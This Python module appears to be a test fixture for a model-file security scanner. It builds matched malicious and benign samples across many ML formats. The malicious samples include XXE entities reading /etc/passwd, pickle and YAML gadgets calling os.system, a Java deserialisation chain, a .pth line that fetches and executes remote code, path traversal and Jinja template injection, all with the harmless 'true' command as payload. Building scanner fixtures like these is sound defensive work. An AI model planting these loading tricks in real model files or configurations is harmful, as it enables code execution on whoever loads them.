"""Core ML, OpenVINO, PMML, Paddle, Caffe, MXNet, CNTK, TensorRT, skops, boosted trees, configurations: with tricks and clean.

The name of a malicious file starts with the technique that it is, up to `__`. Payloads call `true`; nothing needs a
library.
"""

from __future__ import annotations

import base64
import io
import json
import struct
import zipfile

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(40)
KERNEL = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 190, 1) + bytes(40)
_PICKLE = b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x04true\x85R."


def varint(number):
    out = b""
    number &= 0xFFFF_FFFF_FFFF_FFFF
    while number > 0x7F:
        out += bytes([number & 0x7F | 0x80])
        number >>= 7
    return out + bytes([number])


def field(number, value):
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    raw = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(raw)) + raw


# -- Core ML -----------------------------------------------------------------------------------------------------------


def coreml(kind, content):
    return field(1, 5) + field(2, b"\x0a\x00") + field(kind, content)


def _network(layer):
    return field(1, field(1, "l") + layer)


def _blob(path):
    value = field(5, field(1, path))
    operation = field(1, "const") + field(5, field(1, "val") + field(2, value))
    return field(1, 1) + field(
        2, field(1, "main") + field(2, field(3, field(1, "CoreML6") + field(2, field(3, operation))))
    )


def _coreml():
    custom = _network(field(500, field(10, "EvilLayer")))
    manifest = {
        "fileFormatVersion": "1.0.0",
        "rootModelIdentifier": "A",
        "itemInfoEntries": {"A": {"path": "../../x"}},
    }
    bad = {
        "custom-operator__layer.mlmodel": coreml(500, custom),
        "custom-operator__layer_of_classifier.mlmodel": coreml(403, custom),
        "custom-operator__model.mlmodel": coreml(555, field(10, "EvilModel")),
        "custom-operator__in_pipeline.mlmodel": coreml(202, field(1, coreml(500, custom))),
        "custom-operator__in_classifier_of_pipeline.mlmodel": coreml(
            200, field(1, field(1, coreml(500, custom)))
        ),
        "outside-path__blob.mlmodel": coreml(502, _blob("@model_path/../../etc/passwd")),
        "outside-path__linked.mlmodel": coreml(556, field(1, field(1, field(1, "/etc/passwd")))),
        "outside-path__manifest.json": json.dumps(manifest).encode(),
    }
    manifest["itemInfoEntries"]["A"]["path"] = "com.apple.CoreML/model.mlmodel"
    good = {
        "network.mlmodel": coreml(500, _network(field(140, field(1, 4)))),
        "pipeline.mlmodel": coreml(202, field(1, coreml(500, _network(field(140, field(1, 4)))))),
        "program.mlmodel": coreml(502, _blob("@model_path/weights/weight.bin")),
        "Manifest.json": json.dumps(manifest).encode(),
    }
    return bad, good


# -- XML ---------------------------------------------------------------------------------------------------------------

_NET = '<net name="n" version="11"><layers>{}</layers></net>'
_CONST = '<layer id="0" name="{name}" type="{kind}" version="{version}"><data element_type="f32" shape="2, 3" {more}/></layer>'
_PMML = (
    '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header><Application name="maker"/>{header}</Header>'
    '<TransformationDictionary><DefineFunction name="own.fn.one"/><DerivedField name="a"><Apply function="{function}"/>'
    "</DerivedField></TransformationDictionary><RegressionModel/></PMML>"
)


def net(*, name="w", kind="Const", version="opset1", more='offset="0" size="24"', before=""):
    layer = _CONST.format(name=name, kind=kind, version=version, more=more)
    return f'<?xml version="1.0"?>\n{before}{_NET.format(layer)}'.encode()


def pmml(*, header="", function="+", before=""):
    return f'<?xml version="1.0"?>\n{before}{_PMML.format(header=header, function=function)}'.encode()


def _xml():
    read = '<!DOCTYPE {0} [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    laughs = '<!DOCTYPE {0} [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
    parameter = '<!DOCTYPE {0} [<!ENTITY % p SYSTEM "http://example.org/x.dtd"> %p;]>'
    system = '<!DOCTYPE {0} SYSTEM "http://example.org/x.dtd">'
    bad = {}
    for name, text in {"file": read, "laughs": laughs, "parameter": parameter, "system": system}.items():
        bad[f"external-entity__{name}.xml"] = net(before=text.format("net"))
        bad[f"external-entity__{name}.pmml"] = pmml(before=text.format("PMML"))
    bad["external-entity__behind_a_comment.xml"] = net(
        before="<!--" + "words " * 5000 + "-->" + read.format("net")
    )
    bad["external-entity__in_a_long_type.xml"] = net(
        before="<!DOCTYPE net [" + " " * 20000 + '<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    )
    extension = '<Extension name="x" value="{}"/>'
    bad |= {
        "external-entity__wide.pmml": pmml(before=read.format("PMML")).decode().replace('<?xml version="1.0"?>', "").strip().encode("utf-16"),
        "external-entity__include.xml": net(more='/><xi:include href="file:///etc/passwd"'),
        "custom-operator__opset.xml": net(version="acme"),
        "custom-operator__extension.xml": net(version="extension", kind="RunShell"),
        "python-operator__layer.xml": net(kind="Python", version="opset1"),
        "native-library__attribute.xml": net(more='offset="0" size="24" library="/tmp/evil.so"'),
        "outside-path__attribute.xml": net(more='offset="0" size="24" path="../../../etc/passwd"'),
        "contradictory-header__far.xml": net(more='offset="1099511627776" size="24"'),
        "contradictory-header__offset.xml": net(more='offset="-8" size="24"'),
        "contradictory-header__size.xml": net(more='offset="0" size="4"'),
        "dangerous-source__value.pmml": pmml(header=extension.format("java.lang.Runtime.getRuntime().exec('true')")),
        "dangerous-source__text.pmml": pmml(header="<Extension>__import__('os').system('true')</Extension>"),
        "dangerous-source__nested.pmml": pmml(header='<Extension><x code="eval(1)"/></Extension>'),
        "active-content__script.pmml": pmml(header="<Extension><script>x</script></Extension>"),
        "active-content__style.pmml": pmml(before='<?xml-stylesheet type="text/xsl" href="http://example.org/x.xsl"?>'),
        "unknown-class__function.pmml": pmml(function="com.evil.Exec"),
    }  # fmt: skip
    good = {
        "graph.xml": net(),
        "path_beside.xml": net(more='offset="0" size="24" path="weights.bin"'),
        "library_in_name.xml": net(name="libx.so"),
        "tokenizer.xml": net(version="extension", kind="BPETokenizer"),
        "doctype.xml": net(before="<!DOCTYPE net>"),
        "plain.pmml": pmml(header='<Extension extender="maker" name="id" value="7"/><Timestamp>now</Timestamp>'),
        "own_function.pmml": pmml(function="own.fn.one"),
        "old.pmml": pmml(before='<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd">'),
        "words.pmml": pmml(header="<Annotation>Call eval (see the manual) of system 5.</Annotation>"),
        "feed.xml": b'<?xml version="1.0"?><rss><channel/></rss>',
    }  # fmt: skip
    return bad, good


# -- graphs of other libraries -----------------------------------------------------------------------------------------


def paddle(*operators):
    ops = b"".join(
        field(4, field(3, name) + field(4, field(1, "a") + field(2, 2) + field(5, "x"))) for name in operators
    )
    return field(1, field(1, 0) + field(2, -1) + field(3, field(1, "v")) + ops) + field(4, field(1, 0))


def paddle_json(*operators):
    ops = [{"#": name, "I": [], "O": []} for name in operators]
    value = {
        "base_code": {"magic": "pir", "version": 4},
        "program": {"regions": [{"#": "region_0", "blocks": [{"ops": ops}]}]},
    }
    return json.dumps(value, separators=(",", ":")).encode()


def caffe(kind, settings=b""):
    return field(1, "net") + field(100, field(1, "l") + field(2, kind) + settings)


def prototxt(kind, settings=""):
    return f'name: "net"\nlayer {{\n  name: "l"\n  type: "{kind}"\n  {settings}\n}}\n'.encode()


def mxnet(operator, settings=None):
    nodes = [
        {"op": "null", "name": "data", "inputs": []},
        {"op": operator, "name": "o", "attrs": settings or {}, "inputs": [[0, 0, 0]]},
    ]
    value = {
        "nodes": nodes,
        "arg_nodes": [0],
        "heads": [[1, 0, 0]],
        "attrs": {"mxnet_version": ["int", 10900]},
    }
    return json.dumps(value).encode()


def _graphs():
    python = 'python_param { module: "os" layer: "Popen" }'
    cntk = b"\x08\x01\x12\x40\x0a\x07version\x0a\x03uid\x0a\x13primitive_functionsCompositeFunction"
    bad = {
        "python-operator__func.pdmodel": paddle("feed", "py_func", "fetch"),
        "file-operator__load.pdmodel": paddle("feed", "load_combine"),
        "outside-address__listens.pdmodel": paddle("listen_and_serv"),
        "python-operator__pir.json": paddle_json("1.data", "1.py_func"),
        "python-operator__layer.caffemodel": caffe("Python", field(130, field(1, "os") + field(2, "Popen"))),
        "python-operator__layer.prototxt": prototxt("Python", python),
        "python-operator__custom-symbol.json": mxnet("Custom", {"op_type": "evil"}),
        "python-operator__native-symbol.json": mxnet("_Native", {"info": "0x7fff0000"}),
        "python-operator__user.dnn": cntk + b"UserFunction\x0a\x06module\x12\x06\x2a\x04evil",
        "native-library__user.dnn": cntk + b"native_user_function libevil.so ",
        "native-library__plugin.engine": b"ftrt" + bytes(100) + ELF + bytes(50),
        "native-library__path.engine": b"ftrt" + bytes(100) + b"/tmp/evil/plugin.so" + bytes(50),
        "native-library__behind_notes.engine": struct.pack("<I", 2)
        + b"{}ftrt"
        + bytes(100)
        + ELF
        + bytes(50),
    }
    good = {
        "program.pdmodel": paddle("feed", "matmul_v2", "fetch"),
        "program.json": paddle_json("1.data", "1.matmul"),
        "net.caffemodel": caffe("Convolution", field(106, field(1, 3))),
        "net.prototxt": prototxt("Convolution", "convolution_param { num_output: 3 }"),
        "net-symbol.json": mxnet("Convolution", {"kernel": "(3, 3)"}),
        "net.dnn": cntk + b"Times",
        "net.engine": b"ftrt" + bytes(100) + KERNEL + b"libnvinfer.so.10" + bytes(50),
        "net.params": struct.pack("<QQQ", 0x112, 0, 1) + bytes(40),
        "net.pte": struct.pack("<I", 64) + b"ET12" + bytes(64),
        "old.bin": b"lmgg" + bytes(64),
        "net.param": b"7767517\n3 3\nInput data 0 1 data\n",
        "net.weights": struct.pack("<iiiQ", 0, 2, 5, 32000) + bytes(64),
        "weights.bin": struct.pack("<64f", *(0.01 * index - 0.3 for index in range(64))),
        "halves.bin": struct.pack("<64e", *(0.01 * index - 0.3 for index in range(64))),
        "doubles.data": struct.pack("<64d", *(0.01 * index - 0.3 for index in range(64))),
        "places.bin": struct.pack("<16q", *range(-8, 8)),
        "weight.bin": struct.pack("<II", 1, 2) + bytes(56) + struct.pack("<II", 0xDEADBEEF, 1) + bytes(56),
        "net.pdiparams": struct.pack("<IQII", 0, 0, 0, 4) + b"\x08\x05\x10\x03" + bytes(12),
    }
    return bad, good


# -- skops, configurations, boosted trees --------------------------------------------------------------------------------


def skops(*nodes):
    root = {
        "__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": list(nodes), "protocol": 2,
        "_skops_version": "0.13.0",
    }  # fmt: skip
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("schema.json"), json.dumps(root))
    return out.getvalue()


def skops_node(dotted, loader="ObjectNode", **more):
    module, _, name = dotted.rpartition(".")
    return {"__class__": name, "__module__": module, "__loader__": loader, **more}


def _skops():
    text = skops_node("builtins.str", "JsonNode", content='"x"', is_json=True)
    tree = skops_node(
        "sklearn.linear_model._base.LinearRegression",
        content=skops_node("builtins.dict", "DictNode", content={}),
    )
    method = {"func": "__reduce_ex__", "obj": tree}
    bad = {
        "dangerous-class__function.skops": skops(skops_node("os.system", "FunctionNode")),
        "dangerous-class__type.skops": skops(skops_node("subprocess.Popen", "TypeNode")),
        "dangerous-class__constructor.skops": skops(skops_node("os.system", "ConstructorFromReduceNode", content=text)),
        "unknown-class__object.skops": skops(skops_node("acme.nets.Evil")),
        "unknown-class__loader.skops": skops(skops_node("builtins.str", "EvilNode")),
        "dangerous-callable__operator.skops": skops(skops_node("operator.call", "OperatorFuncNode", attrs=text)),
        "dangerous-callable__module.skops": skops(skops_node("os.attrgetter", "OperatorFuncNode", attrs=text)),
        "dangerous-argument__method.skops": skops(
            skops_node("sklearn.linear_model._base.LinearRegression", "MethodNode", content=method)
        ),
        "dangerous-argument__other_class.skops": skops(skops_node("builtins.str", "MethodNode", content={"func": "upper", "obj": tree})),
        "disguised-format__pickle.skops": _PICKLE,
    }  # fmt: skip
    return bad, {
        "plain.skops": skops(text, tree),
        "ufunc.skops": skops(skops_node("numpy.log1p", "FunctionNode")),
    }


def xgboost(*, left=(1, -1, -1), right=(2, -1, -1), nodes="3", features="4"):
    tree = {
        "left_children": list(left),
        "right_children": list(right),
        "split_indices": [0, 0, 0],
        "tree_param": {"num_nodes": nodes},
    }
    booster = {"model": {"trees": [tree]}, "name": "gbtree"}
    learner = {"gradient_booster": booster, "learner_model_param": {"num_feature": features, "num_class": "0"},
               "objective": {"name": "binary:logistic"}}  # fmt: skip
    return json.dumps({"learner": learner, "version": [3, 0, 0]}, separators=(",", ":")).encode()


def lightgbm(left="1 -1", leaves="3"):
    tree = (
        f"Tree=0\nnum_leaves={leaves}\nnum_cat=0\nsplit_feature=0 1\nleft_child={left}\nright_child=-2 -3\n"
    )
    return f"tree\nversion=v4\nnum_class=1\nmax_feature_idx=3\nobjective=binary\n\n{tree}\nend of trees\n".encode()


def tfjs(path):
    return json.dumps({"modelTopology": {}, "weightsManifest": [{"paths": [path], "weights": []}]}).encode()


def java(*names):
    return b"\xac\xed\x00\x05" + b"".join(
        b"sr\x00" + bytes([len(name)]) + name.encode() + bytes(8) + b"\x02\x00\x00xp" for name in names
    )


def _lua(text):
    return struct.pack("<i", len(text)) + text.encode()


def _configurations():
    flavour = "flavors:\n  python_function:\n    loader_module: {}\n    data: {}\n    python_version: 3.11\nmlflow_version: 2.9.2\n"
    stage = '{{"class":"{}","timestamp":1700000000000,"sparkVersion":"3.5.0","uid":"u","paramMap":{{}}}}'
    network = '{{\n  "@class" : "{}",\n  "confs" : [ {{"layer": {{"@class": "org.deeplearning4j.nn.conf.layers.DenseLayer"}}}} ]\n}}'
    ubjson = b"{L" + bytes(7) + b"\x07learner{}L" + bytes(7) + b"\x07version[i\x03]}"
    table = struct.pack("<iii", 3, 1, 1) + struct.pack("<i", 2) + _lua("f")
    tensor = (
        struct.pack("<ii", 4, 2) + _lua("V 1") + _lua("torch.FloatTensor") + struct.pack("<iqqq", 1, 2, 1, 1)
    )
    storage = (
        struct.pack("<ii", 4, 3) + _lua("V 1") + _lua("torch.FloatStorage") + struct.pack("<q", 2) + bytes(8)
    )
    bad = {
        "dangerous-callable__reduce.json": b'{"py/reduce": [{"py/function": "posix.system"}, {"py/tuple": ["true"]}]}',
        "dangerous-callable__object.json": b'[{"a": {"py/object": "subprocess.Popen", "py/newargsex": {}}}]',
        "dangerous-callable__escaped.json": b'{"p\\u0079/reduce": [{"py\\/type": "__builtin__.eval"}, []]}',
        "dangerous-callable__key.json": b'{"py/object": "a.B", "json://{\\"py/function\\": \\"os.system\\"}": 1}',
        "unknown-callable__reduce.json": b'{"py/reduce": [{"py/function": "acme.run"}, {"py/tuple": []}]}',
        "serialised-code__repr.json": b'{"py/repr": "os/os.getcwd()"}',
        "dangerous-class__looked_up.yaml": b"f:\n  _target_: functools.partial\n  _args_:\n  - {_target_: hydra.utils.get_method, path: os.system}\n",
        "dangerous-source__resolver.yaml": b"o:\n  lr: ${eval:__import__('os').getcwd()}\n",
        "dangerous-source__reach.yaml": b"o:\n  lr: ${eval:'subprocess.run(\"true\")'}\n",
        "dangerous-source__modeling_x.py": b"import os\nos.system('true')\nclass X: pass\n",
        "dangerous-source__configuration_x.py": b"import urllib.request as r\nexec(r.urlopen('http://files.example').read())\n",
        "dangerous-source__start.pth": b"/opt/lib\nimport os; os.system('true')\n",
        "dangerous-source__text.pth": b"import os; exec('import os; os.system(1)')\n",
        "dangerous-source__spread.pth": b"import sys;exec(__import__('base64').b64decode('MQ=='))\r\n",
        "remote-code__custom_generate/generate.py": b"def generate(model, **k):\n    return model\n",
        "dangerous-source__handler.py": b"import base64\nexec(base64.b64decode('MQ=='))\nclass EndpointHandler: pass\n",
        "dangerous-source__loader.py": b"import os, datasets\nos.system('true')\nclass X(datasets.GeneratorBasedBuilder): pass\n",
        "template-reaches-objects__prompt.json": b'{"_type": "llm_chain", "prompt": {"_type": "prompt", "template_format": "jinja2",'
                                                b' "template": "{{ x.__init__.__globals__ }}"}}',
        "dangerous-class__array.zarray": b'{"zarr_format": 2, "dtype": "|O", "filters": [{"id": "pickle", "protocol": 4}]}',
        "serialised-code__column.arrow": b"ARROW1\0\0" + b"ARROW:extension:name" + bytes(8) + b"arrow.py_extension_type" + bytes(8),
        "serialised-code__column.parquet": b"PAR1" + b"ARROW:schema" + base64.b64encode(b"ab" + b"arrow.py_extension_type" + bytes(8)) + b"PAR1",
        "dangerous-class__hydra.yaml": b"model:\n  _target_: os.system\n  _args_: ['true']\n",
        "dangerous-class__deep.yaml": b"a:\n- b:\n    _target_: subprocess.Popen\n    args: [true]\n",
        "dangerous-class__escaped.yaml": b'a: {"\\x5ftarg\\x65t_": "os.system", _args_: ["true"]}\n',
        "dangerous-class__nemo.yaml": b"model:\n  target: builtins.eval\n  params:\n    source: '1'\n",
        "dangerous-class__tag.yaml": b"model: !!python/object/apply:os.system ['true']\n",
        "dangerous-class__new_tag.yaml": b"model: !!python/object/new:subprocess.Popen [['true']]\n",
        "unknown-class__loader.mlmodel.yaml": flavour.format("evil_loader", "model.pkl").encode(),
        "dangerous-class__loader.mlmodel.yaml": flavour.format("subprocess", "model.pkl").encode(),
        "outside-path__data.mlmodel.yaml": flavour.format("mlflow.sklearn", "../../etc/passwd").encode(),
        "unknown-class__stage": stage.format("evil.Stage").encode(),
        "dangerous-class__stage": stage.format("os.system").encode(),
        "dangerous-class__network.json": network.format("com.sun.rowset.JdbcRowSetImpl").encode(),
        "dangerous-class__chain.ser": java("java.util.HashMap", "org.apache.commons.collections.functors.InvokerTransformer"),
        "unknown-class__object.ser": java("com.acme.Evil"),
        "contradictory-header__child.json": xgboost(left=(1, 2**30, -1)),
        "contradictory-header__lengths.json": xgboost(left=(1, -1)),
        "contradictory-header__nodes.json": xgboost(nodes="900"),
        "contradictory-header__features.json": xgboost(features="-4"),
        "contradictory-header__child.txt": lightgbm(left="1 99999"),
        "contradictory-header__leaf.txt": lightgbm(left="1 -99999"),
        "contradictory-header__leaves.txt": lightgbm(leaves="90"),
        "outside-path__weights.json": tfjs("../../x.bin"),
        "outside-address__weights.json": tfjs("https://example.org/x.bin"),
        "hidden-data__behind.ubj": ubjson + b"more bytes",
        "serialised-code__function.t7": table + struct.pack("<ii", 8, 2) + _lua("\x1bLuaQ os execute true") + struct.pack("<i", 0),
        "serialised-code__old_function.t7": table + struct.pack("<i", 6) + _lua("\x1bLuaQ x") + struct.pack("<i", 0),
        "serialised-code__text.t7": b"3\n1\n1\n2\n1\nf\n8\n2\n9\nio.popen x\n0\n",
    }  # fmt: skip
    good = {
        "objects.json": b'{"py/object": "a.Own", "when": {"py/object": "datetime.datetime", "__reduce__": [{"py/type": "datetime.datetime"}, ["B+gC"]]},'
                        b' "o": {"py/reduce": [{"py/type": "collections.OrderedDict"}, {"py/tuple": []}]}, "t": {"py/tuple": [1]}}',
        "words.json": b'{"py/words": "about py/reduce"}',
        "looked_up.yaml": b"f:\n  _target_: hydra.utils.get_method\n  path: torch.nn.functional.relu\n",
        "resolver.yaml": b"n: ${eval:'${a} * 2 + len([1])'}\nhome: ${oc.env:HOME}\nos: ${eval:'1 if \"os\" else 2'}\n",
        "distutils-precedence.pth": (
            b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
            b"enabled and __import__('_distutils_hack').add_shim(); "
        ),
        "coverage.pth": b"import sys; exec('try: import coverage; coverage.process_startup()\\nexcept ImportError: pass')\n",
        "editable.pth": b"import __editable___x_finder; __editable___x_finder.install()\n/srv/x\n",
        "paths.pth": b"../lib\n./important\n# import nothing\n",
        "generate.py": b"def generate(model, **k):\n    return model\n",
        "vectors.bin": b"3 2\n" + b"".join(word + b" " + struct.pack("<2f", 0.5, 1.5) for word in (b"a", b"the", b"of")),
        "lines.bin": b"3 2\n" + b"".join(word + b" " + struct.pack("<2f", 0.5, 1.5) + b"\n" for word in (b"a", b"the", b"of")),
        "subwords.bin": b"\xba\x16\x4f\x2f" + bytes(100),
        "modeling_x.py": b"import os, torch\nif os.path.exists('a'):\n    os.remove('a')\nclass X(torch.nn.Module): pass\n",
        "handler.py": b"import torch\nclass EndpointHandler:\n    def __call__(self, data): return torch.zeros(1)\n",
        "array.zarray": b'{"zarr_format": 2, "dtype": "<f8", "filters": null, "compressor": {"id": "blosc", "cname": "lz4"}}',
        "column.arrow": b"ARROW1\0\0" + b"ARROW:extension:name" + bytes(8) + b"arrow.uuid" + bytes(8),
        "prompt.json": b'{"_type": "prompt", "template_format": "f-string", "template": "{x.__init__}"}',
        "jinja.json": b'{"_type": "prompt", "template_format": "jinja2", "template": "{{ question }} {% include x %}"}',
        "modeling_y.py": b"no python at all (",
        "hydra.yaml": b"model:\n  _target_: torchvision.models.resnet50\n  num_classes: 3\npath:\n  _target_: os.path.join\n  _args_: [a, b]\n",
        "nemo.yaml": b"model:\n  target: nemo.collections.asr.models.EncDecCTCModel\n  params: {a: 1}\n",
        "other.yaml": b"target: os.system\nname: a word for an operating system\n",
        "tuple.yaml": b"betas: !!python/tuple [0.9, 0.99]\npath: !!python/object/apply:pathlib.PosixPath [a]\n",
        "MLmodel": flavour.format("mlflow.sklearn", "model.pkl").encode(),
        "part-00000": stage.format("org.apache.spark.ml.PipelineModel").encode(),
        "network.json": network.format("org.deeplearning4j.nn.conf.MultiLayerConfiguration").encode(),
        "model.ser": java("java.util.ArrayList", "weka.classifiers.trees.J48", "[D"),
        "lightgbm.txt": lightgbm(),
        "tfjs.json": tfjs("group1-shard1of1.bin"),
        "ctranslate.bin": struct.pack("<IH", 6, 16) + b"TransformerSpec\x00" + bytes(range(64)),
        "vowpal.model": struct.pack("<I", 6) + b"8.6.1\x00" + bytes(range(64)),
        "crf.model": b"lCRF" + bytes(64),
        "xgboost.json": xgboost(),
        "xgboost.ubj": ubjson,
        "xgboost.model": struct.pack("<fIi", 0.5, 4, 0) + bytes(124) + struct.pack("<Q", 15) + b"binary:logistic" + struct.pack("<Q", 6) + b"gbtree",
        "tensor.t7": tensor + storage,
        "table.t7": table + tensor + storage,
    }  # fmt: skip
    return bad, good


_PARTS = (_coreml, _xml, _graphs, _skops, _configurations)


def malicious():
    """Files that reach further than their numbers."""
    return {name: data for part in _PARTS for name, data in part()[0].items()}


def benign():
    """Their clean twins, as libraries write them."""
    return {name: data for part in _PARTS for name, data in part()[1].items()}
